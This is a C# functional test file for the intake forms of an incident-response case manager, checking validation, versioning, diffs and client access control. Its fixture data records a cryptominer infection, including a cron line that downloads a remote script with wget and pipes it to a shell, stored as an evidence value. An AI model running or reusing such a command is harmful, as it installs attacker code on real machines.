using System.Text.Json;
using CaseManager.Application.Cases.Commands.OpenCase;
using CaseManager.Application.Clients.Commands.CreateClient;
using CaseManager.Application.Intake.Commands.SaveIntake;
using CaseManager.Application.Intake.Queries.GetIntake;
using CaseManager.Application.Intake.Queries.GetIntakeHistory;
using CaseManager.Domain.Cases;
using CaseManager.Domain.Intake;

namespace CaseManager.Application.FunctionalTests.Intake;

public abstract class IntakeTests<TApp>(TApp app) : DatabaseTests<TApp>(app)
    where TApp : FunctionalTestApp
{
    private const string Secret = "Internal: likely Kinsing via exposed Redis";

    [SkippableFact]
    public async Task SaveDraft_KeepsPartialInput()
    {
        var (_, caseId) = await NewCaseAsync();
        var partial = IntakeData.Empty with { Reporter = new Reporter("李娜") };

        var version = await App.SendAsync(new SaveIntakeCommand(caseId, partial, null, Submit: false));

        var intake = await App.SendAsync(new GetIntakeQuery(caseId));
        (version, intake.Version, intake.Status, intake.Data.Reporter.Name).ShouldBe((1, 1, IntakeStatus.Draft, "李娜"));
        intake.SubmittedAt.ShouldBeNull();
    }

    [SkippableFact]
    public async Task Submit_Incomplete_NamesEveryMissingFieldAndSavesNothing()
    {
        var (_, caseId) = await NewCaseAsync();
        await App.SendAsync(new SaveIntakeCommand(caseId, IntakeData.Empty with { Reporter = new Reporter("Ann") }, null, Submit: false));

        var ex = await Should.ThrowAsync<ValidationException>(() =>
            App.SendAsync(new SaveIntakeCommand(caseId, IntakeData.Empty with { Reporter = new Reporter("Ann") }, null, Submit: true)));

        ex.Errors.Keys.ShouldBe(
            ["Data.Reporter.Phone", "Data.Engagement.HowReported", "Data.Engagement.Urgency", "Data.Hosts", "Data.Symptoms.Observed",
             "Data.Timeline.FirstNoticed", "Data.Timeline.TimeZone", "Data.Actions.Kinds"],
            ignoreOrder: true);
        var intake = await App.SendAsync(new GetIntakeQuery(caseId));
        (intake.Version, intake.Status).ShouldBe((1, IntakeStatus.Draft));
    }

    [SkippableFact]
    public async Task DraftSubmitAmend_KeepsEveryVersion_AndTheDiffShowsWhatChanged()
    {
        var (_, caseId) = await NewCaseAsync();
        await App.SendAsync(new SaveIntakeCommand(caseId, IntakeData.Empty with { Reporter = new Reporter("Ann") }, null, false));
        var complete = Complete();
        await App.SendAsync(new SaveIntakeCommand(caseId, complete, new IntakeInternal(FirstAssessment: "Mining, probably"), Submit: true), TestUser.Admin);
        var amended = complete with
        {
            Hosts = [.. (await App.SendAsync(new GetIntakeQuery(caseId))).Data.Hosts.Select(h => h with { State = HostState.Isolated })],
            Mining = complete.Mining with { PoolOrWallet = "pool.supportxmr.com:3333" },
        };
        await App.SendAsync(new SaveIntakeCommand(caseId, amended, new IntakeInternal(FirstAssessment: "Mining, probably"), Submit: false));

        var versions = await App.SendAsync(new ListIntakeVersionsQuery(caseId));
        versions.Select(v => (v.Number, v.Status)).ShouldBe([(3, IntakeStatus.Submitted), (2, IntakeStatus.Submitted), (1, IntakeStatus.Draft)]);
        versions.Select(v => v.SavedBy).ShouldBe([TestUser.Consultant.Name, TestUser.Admin.Name, TestUser.Consultant.Name]);

        var changes = await App.SendAsync(new GetIntakeDiffQuery(caseId, 2, 3));
        changes.Select(c => (c.Field, c.Before, c.After)).ShouldBe(
            [("data.hosts[0].state", "Running", "Isolated"), ("data.mining.poolOrWallet", null, "pool.supportxmr.com:3333")],
            ignoreOrder: true);
        (await App.SendAsync(new GetIntakeDiffQuery(caseId, 1, 2))).ShouldContain(c => c.Field == "internal.firstAssessment" && c.After == "Mining, probably");
    }

    [SkippableFact]
    public async Task Amend_ThatRemovesRequiredData_IsRejected()
    {
        var (_, caseId) = await NewCaseAsync();
        await App.SendAsync(new SaveIntakeCommand(caseId, Complete(), null, Submit: true));

        var ex = await Should.ThrowAsync<ValidationException>(() =>
            App.SendAsync(new SaveIntakeCommand(caseId, Complete() with { Hosts = [] }, null, Submit: false)));

        ex.Errors.ShouldContainKey("Data.Hosts");
        (await App.SendAsync(new GetIntakeQuery(caseId))).Version.ShouldBe(1);
    }

    [SkippableFact]
    public async Task Save_WithBadIpFutureDateUnknownZoneAndOversizeText_ReportsEachField()
    {
        var (_, caseId) = await NewCaseAsync();
        var bad = IntakeData.Empty with
        {
            Hosts = [new AffectedHost(Guid.Empty, "web01", ["10.0.0.5", "10.0.0.999", "fe80::1", "not-an-ip"])],
            Timeline = new IntakeTimeline(FirstNoticed: DateTime.UtcNow.AddHours(8).AddMinutes(30), TimeZone: "Asia/Shanghai"),
            Engagement = new Engagement(ImpactText: new string('x', IntakeData.LongText + 1)),
            Reporter = new Reporter(Email: "not-an-email"),
        };

        var ex = await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new SaveIntakeCommand(caseId, bad, null, Submit: false)));

        ex.Errors.Keys.ShouldBe(
            ["Data.Hosts[0].IpAddresses[1]", "Data.Hosts[0].IpAddresses[3]", "Data.Timeline.FirstNoticed", "Data.Engagement.ImpactText", "Data.Reporter.Email"],
            ignoreOrder: true);

        var zone = await Should.ThrowAsync<ValidationException>(() => App.SendAsync(new SaveIntakeCommand(
            caseId, IntakeData.Empty with { Timeline = new IntakeTimeline(TimeZone: "Mars/Olympus_Mons") }, null, Submit: false)));
        zone.Errors.Keys.ShouldBe(["Data.Timeline.TimeZone"]);
        (await App.SendAsync(new GetIntakeQuery(caseId))).Version.ShouldBe(0);
    }

    [SkippableFact]
    public async Task FirstNoticed_InAnEarlierTimeZone_IsNotTheFuture()
    {
        var (_, caseId) = await NewCaseAsync();

        // Local time in Shanghai an hour ago (UTC+8): as a UTC wall-clock it would look 7 hours ahead.
        var shanghaiNow = TimeZoneInfo.ConvertTime(DateTimeOffset.UtcNow, TimeZoneInfo.FindSystemTimeZoneById("Asia/Shanghai")).DateTime;
        var data = IntakeData.Empty with { Timeline = new IntakeTimeline(FirstNoticed: shanghaiNow.AddHours(-1), TimeZone: "Asia/Shanghai") };

        (await App.SendAsync(new SaveIntakeCommand(caseId, data, null, Submit: false))).ShouldBe(1);
    }

    [SkippableFact]
    public async Task ConsultantOnlyFields_NeverReachAClient_AndAClientCannotOverwriteThem()
    {
        var (clientId, caseId) = await NewCaseAsync();
        await App.SendAsync(new SaveIntakeCommand(caseId, Complete(), new IntakeInternal(Secret, "Mining"), Submit: false));
        var clientUser = TestUser.ClientOf(clientId);

        var seenByClient = await App.SendAsync(new GetIntakeQuery(caseId), clientUser);
        JsonSerializer.Serialize(seenByClient).ShouldNotContain("Kinsing");
        await Should.ThrowAsync<ForbiddenAccessException>(() => App.SendAsync(new GetIntakeInternalQuery(caseId), clientUser));
        await Should.ThrowAsync<ForbiddenAccessException>(() => App.SendAsync(new ListIntakeVersionsQuery(caseId), clientUser));
        await Should.ThrowAsync<ForbiddenAccessException>(() => App.SendAsync(new GetIntakeDiffQuery(caseId, 1, 1), clientUser));

        await App.SendAsync(new SaveIntakeCommand(caseId, Complete() with { Reporter = new Reporter("Client edit", Phone: "110") }, new IntakeInternal("hijack", "hijack"), Submit: true), clientUser);

        (await App.SendAsync(new GetIntakeInternalQuery(caseId))).ShouldBe(new IntakeInternal(Secret, "Mining"));
        var versions = await App.SendAsync(new ListIntakeVersionsQuery(caseId));
        versions[0].SavedByClient.ShouldBeTrue();
        (await App.SendAsync(new GetIntakeQuery(caseId))).Data.Reporter.Name.ShouldBe("Client edit");
    }

    [SkippableFact]
    public async Task ClientUser_OfAnotherOrganisation_CannotReadOrWriteTheIntake()
    {
        var (_, caseId) = await NewCaseAsync();
        var (otherClient, _) = await NewCaseAsync();
        var outsider = TestUser.ClientOf(otherClient);
        await App.SendAsync(new SaveIntakeCommand(caseId, Complete(), null, Submit: false));

        await Should.ThrowAsync<NotFoundException>(() => App.SendAsync(new GetIntakeQuery(caseId), outsider));
        await Should.ThrowAsync<NotFoundException>(() => App.SendAsync(new SaveIntakeCommand(caseId, Complete(), null, Submit: true), outsider));
        (await App.SendAsync(new GetIntakeQuery(caseId))).Version.ShouldBe(1);
    }

    [SkippableFact]
    public async Task HostIds_StayTheSameAcrossVersions()
    {
        var (_, caseId) = await NewCaseAsync();
        await App.SendAsync(new SaveIntakeCommand(caseId, Complete(), null, Submit: false));
        var first = (await App.SendAsync(new GetIntakeQuery(caseId))).Data.Hosts;
        first.ShouldAllBe(h => h.Id != Guid.Empty);

        await App.SendAsync(new SaveIntakeCommand(caseId, Complete() with { Hosts = [.. first, new AffectedHost(Guid.Empty, "db02")] }, null, Submit: false));

        var second = (await App.SendAsync(new GetIntakeQuery(caseId))).Data.Hosts;
        second.Take(first.Count).Select(h => h.Id).ShouldBe(first.Select(h => h.Id));
        second[^1].Id.ShouldNotBe(Guid.Empty);
    }

    private async Task<(Guid ClientId, Guid CaseId)> NewCaseAsync()
    {
        var clientId = await App.SendAsync(new CreateClientCommand(Unique("Intake"), null, null, []));
        return (clientId, await App.SendAsync(new OpenCaseCommand(clientId, "Miner on build server", null, Severity.High, TrafficLightProtocol.Amber)));
    }

    private static IntakeData Complete() => IntakeData.Empty with
    {
        Reporter = new Reporter("王强", "运维主管", "+86 21 5555 0101", "wang@example.cn"),
        Engagement = new Engagement(ReportChannel.Phone, Level.High, Level.Medium, "构建服务器变慢", "白天不能停机"),
        Hosts = [new AffectedHost(Guid.Empty, "build01", ["10.1.2.3", "2001:db8::3"], "CentOS 7.9", "CI", "22, 6379", "none", HostState.Running, Level.High)],
        Symptoms = new Symptoms([new SymptomEntry(SymptomKind.HighCpu, "100% on all cores"), new SymptomEntry(SymptomKind.UnknownProcesses, "kdevtmpfsi")]),
        Timeline = new IntakeTimeline(new DateTime(2026, 11, 20, 9, 30, 0), new DateTime(2026, 11, 19, 18, 0, 0), new DateTime(2026, 11, 20, 10, 0, 0), "Asia/Shanghai"),
        Actions = new ActionsTaken([ActionKind.KilledProcesses, ActionKind.Rebooted], "killed it twice; it came back"),
        Evidence = [new EvidenceOnHand(EvidenceType.Samples, "/tmp/kdevtmpfsi", "Wang")],
        Mining = new MiningDetails(100, null, "* * * * * wget -q -O - http://x/unk.sh | sh", "kdevtmpfsi"),
    };
}

public sealed class IntakeOnSqliteTests(SqliteApp app) : IntakeTests<SqliteApp>(app), IClassFixture<SqliteApp>;

public sealed class IntakeOnPostgresTests(PostgresApp app) : IntakeTests<PostgresApp>(app), IClassFixture<PostgresApp>;
